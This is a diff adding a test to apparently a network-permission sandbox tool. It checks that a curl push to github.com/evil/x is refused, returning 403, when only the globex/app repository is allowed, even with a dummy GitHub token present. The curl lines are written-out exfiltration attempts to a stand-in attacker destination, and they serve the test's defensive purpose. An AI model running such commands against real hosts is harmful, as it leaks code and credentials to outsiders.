@@ -83,6 +83,15 @@ def test_what_is_to_be_pasted_is_not_broken_on_a_terminal(run, places):
     assert "keyhole: refused once: GET " in rest
 
 
+def test_a_run_that_is_narrowed_gets_words_that_keep_it_narrowed(run):
+    own, other = (f"{CURL} -d x https://github.com/{name}/git-receive-pack; " for name in ("globex/app", "evil/x"))
+    done = run("--use", "github:repos=globex/app", "--", "sh", "-c", own + other, use=None)
+    assert "  to allow it: --use github:repos=globex/app,push=true" in lines(done), done.stderr
+    again = run("--use", "github:repos=globex/app", "--use", "github:repos=globex/app,push=true", "--", "sh", "-c", other, use=None,
+                GH_TOKEN="ghp_" + "x" * 36)  # fmt: skip
+    assert again.stdout == "403 " and "--use" not in again.stderr, again.stderr
+
+
 def test_each_place_is_named_once_with_how_often_and_with_words_that_allow_it(run, places):
     script = (f"for i in 1 2 3; do {CURL} https://registry.npmjs.org/left-pad; done; "
               f"{CURL} -d x 'https://other.test/v1/x?q=hidden'; {CURL} https://other.test/users/42")  # fmt: skip
